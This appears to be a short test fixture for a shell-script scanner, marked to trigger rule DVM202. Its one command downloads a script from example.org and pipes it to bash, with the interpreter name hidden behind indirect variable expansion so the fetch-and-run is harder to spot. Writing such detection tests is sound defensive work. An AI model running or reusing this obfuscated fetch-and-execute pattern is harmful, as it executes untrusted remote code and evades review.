# expect: DVM202
name=tool
tool=bash
curl -s https://example.org/i.sh | "${!name}"
